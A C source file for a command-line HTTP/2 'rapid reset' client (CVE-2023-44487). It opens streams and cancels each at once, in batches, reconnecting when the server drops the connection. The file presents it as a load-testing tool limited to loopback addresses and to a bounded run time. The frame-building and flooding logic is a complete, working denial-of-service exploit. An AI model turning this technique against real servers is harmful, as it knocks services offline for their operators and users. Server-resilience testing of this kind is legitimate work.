/* settee-h2flood: an HTTP/2 rapid-reset client (CVE-2023-44487), to measure how a
 * server holds up: it opens streams with a GET and resets each at once (HEADERS
 * then RST_STREAM CANCEL), in batches, reconnecting when the server closes the
 * connection, until its stream count or time bound is reached.
 *
 *   settee-h2flood [--tls] [--seconds S] [--streams N] [--path P] [--bind FROM] HOST PORT
 *
 * Loopback only (127.0.0.0/8): it is a load tool for one's own server. Bounded by
 * default to 10 s and 10 million streams. Prints one JSON line: streams sent,
 * connections opened, connections the server closed, seconds.
 *
 * Exit status: 0 done, 2 bad arguments (or not loopback), 3 cannot connect at all. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct {
    int fd;
    SSL *ssl;
} conn_t;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* the TLS socket is non-blocking (so that drain() never waits): writes wait here */
static int send_all(conn_t *c, const unsigned char *p, size_t n)
{
    while (n) {
        ssize_t k = c->ssl ? SSL_write(c->ssl, p, (int)n) : send(c->fd, p, n, MSG_NOSIGNAL);
        if (k <= 0) {
            if (!c->ssl) return -1;
            int e = SSL_get_error(c->ssl, (int)k);
            if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) return -1;
            struct pollfd pf = {.fd = c->fd, .events = e == SSL_ERROR_WANT_WRITE ? POLLOUT : POLLIN};
            if (poll(&pf, 1, 1000) < 0) return -1;
            continue;
        }
        p += k;
        n -= (size_t)k;
    }
    return 0;
}

/* reads and drops what the server sent (responses, GOAWAY): -1 once it closed */
static int drain(conn_t *c)
{
    unsigned char buf[65536];
    for (;;) {
        ssize_t k;
        if (c->ssl) {
            k = SSL_read(c->ssl, buf, sizeof(buf));
            if (k <= 0) {
                int e = SSL_get_error(c->ssl, (int)k);
                if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) return 0;
                return -1;
            }
        } else {
            k = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
            if (k < 0) return errno == EAGAIN || errno == EWOULDBLOCK ? 0 : -1;
            if (k == 0) return -1;
        }
    }
}

static void frame_head(unsigned char *p, size_t len, uint8_t type, uint8_t flags, uint32_t sid)
{
    p[0] = (unsigned char)(len >> 16), p[1] = (unsigned char)(len >> 8), p[2] = (unsigned char)len;
    p[3] = type, p[4] = flags;
    p[5] = (unsigned char)(sid >> 24 & 0x7f), p[6] = (unsigned char)(sid >> 16), p[7] = (unsigned char)(sid >> 8);
    p[8] = (unsigned char)sid;
}

static int open_conn(conn_t *c, const char *host, int port, const char *from, SSL_CTX *ctx)
{
    memset(c, 0, sizeof(*c));
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    c->fd = socket(AF_INET, SOCK_STREAM, 0);
    if (c->fd >= 0 && from) {
        struct sockaddr_in b = {.sin_family = AF_INET};
        inet_pton(AF_INET, from, &b.sin_addr);
        if (bind(c->fd, (struct sockaddr *)&b, sizeof(b)) != 0) {
            close(c->fd);
            return -1;
        }
    }
    if (c->fd < 0 || connect(c->fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
        if (c->fd >= 0) close(c->fd);
        return -1;
    }
    int one = 1;
    setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    if (ctx) {
        c->ssl = SSL_new(ctx);
        SSL_set_fd(c->ssl, c->fd);
        if (SSL_connect(c->ssl) != 1) {
            SSL_free(c->ssl);
            close(c->fd);
            return -1;
        }
        const unsigned char *proto;
        unsigned plen;
        SSL_get0_alpn_selected(c->ssl, &proto, &plen);
        if (plen != 2 || memcmp(proto, "h2", 2) != 0) {
            fprintf(stderr, "settee-h2flood: the server did not agree to h2 over TLS\n");
            SSL_free(c->ssl);
            close(c->fd);
            return -1;
        }
        /* reads then never block: drain() polls */
        SSL_set_mode(c->ssl, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
        fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
    }
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    unsigned char settings[9];
    frame_head(settings, 0, 4, 0, 0);
    if (send_all(c, (const unsigned char *)preface, sizeof(preface) - 1) || send_all(c, settings, sizeof(settings)))
        return -1;
    return 0;
}

static void close_conn(conn_t *c)
{
    if (c->ssl) SSL_free(c->ssl);
    close(c->fd);
}

int main(int argc, char **argv)
{
    bool tls = false;
    double seconds = 10;
    uint64_t max_streams = 10000000;
    const char *path = "/", *from = NULL;
    int i = 1;
    for (; i < argc && argv[i][0] == '-'; i++) {
        if (strcmp(argv[i], "--tls") == 0)
            tls = true;
        else if (strcmp(argv[i], "--seconds") == 0 && i + 1 < argc)
            seconds = atof(argv[++i]);
        else if (strcmp(argv[i], "--streams") == 0 && i + 1 < argc)
            max_streams = strtoull(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
            path = argv[++i];
        else if (strcmp(argv[i], "--bind") == 0 && i + 1 < argc)
            from = argv[++i];
        else
            break;
    }
    if (argc - i != 2 || seconds <= 0 || seconds > 600 || strlen(path) > 120) {
        fprintf(stderr,
                "usage: settee-h2flood [--tls] [--seconds S<=600] [--streams N] [--path P] [--bind FROM] HOST PORT\n"
                "  HTTP/2 rapid reset against a server on loopback; prints one JSON line\n");
        return 2;
    }
    const char *host = argv[i];
    int port = atoi(argv[i + 1]);
    struct in_addr ia;
    struct in_addr fa;
    if (inet_pton(AF_INET, host, &ia) != 1 || (ntohl(ia.s_addr) >> 24) != 127 ||
        (from && (inet_pton(AF_INET, from, &fa) != 1 || (ntohl(fa.s_addr) >> 24) != 127))) {
        fprintf(stderr, "settee-h2flood: %s is not a loopback address (127.0.0.0/8)\n", from ? from : host);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN); /* a server closing on us is an answer, not a crash */
    SSL_CTX *ctx = NULL;
    if (tls) {
        ctx = SSL_CTX_new(TLS_client_method());
        static const unsigned char alpn[] = {2, 'h', '2'};
        SSL_CTX_set_alpn_protos(ctx, alpn, sizeof(alpn));
        SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    }
    /* one HEADERS block for every stream: :method GET, :scheme, :path, :authority
     * (static-table indices; path and authority as literals without indexing) */
    unsigned char hb[256];
    size_t hl = 0;
    hb[hl++] = 0x82;
    hb[hl++] = tls ? 0x87 : 0x86;
    hb[hl++] = 0x04, hb[hl++] = (unsigned char)strlen(path);
    memcpy(hb + hl, path, strlen(path)), hl += strlen(path);
    hb[hl++] = 0x01, hb[hl++] = (unsigned char)strlen(host);
    memcpy(hb + hl, host, strlen(host)), hl += strlen(host);
    enum { BATCH = 64 };
    unsigned char *batch = malloc(BATCH * (9 + hl + 9 + 4));
    uint64_t streams = 0, conns = 0, closed_by_server = 0;
    double t0 = now(), end = t0 + seconds;
    conn_t c;
    bool open = false;
    uint32_t sid_of_conn = 1;
    while (streams < max_streams && now() < end) {
        if (!open) {
            if (open_conn(&c, host, port, from, ctx) != 0) {
                if (!conns) {
                    fprintf(stderr, "settee-h2flood: cannot connect to %s:%d\n", host, port);
                    return 3;
                }
                usleep(10000);
                continue;
            }
            conns++;
            open = true;
            sid_of_conn = 1;
        }
        size_t n = 0;
        for (int k = 0; k < BATCH; k++) {
            uint32_t sid = sid_of_conn;
            sid_of_conn += 2;
            frame_head(batch + n, hl, 1, 0x5, sid); /* END_STREAM | END_HEADERS */
            memcpy(batch + n + 9, hb, hl);
            n += 9 + hl;
            frame_head(batch + n, 4, 3, 0, sid);
            batch[n + 9] = 0, batch[n + 10] = 0, batch[n + 11] = 0, batch[n + 12] = 8; /* CANCEL */
            n += 13;
        }
        if (send_all(&c, batch, n) != 0 || drain(&c) != 0 || sid_of_conn > 0x7ffffff0u) {
            if (sid_of_conn <= 0x7ffffff0u) closed_by_server++;
            close_conn(&c);
            open = false;
            continue;
        }
        streams += BATCH;
    }
    if (open) close_conn(&c);
    printf("{\"streams\":%llu,\"connections\":%llu,\"closed_by_server\":%llu,\"seconds\":%.2f}\n",
           (unsigned long long)streams, (unsigned long long)conns, (unsigned long long)closed_by_server, now() - t0);
    free(batch);
    if (ctx) SSL_CTX_free(ctx);
    return 0;
}
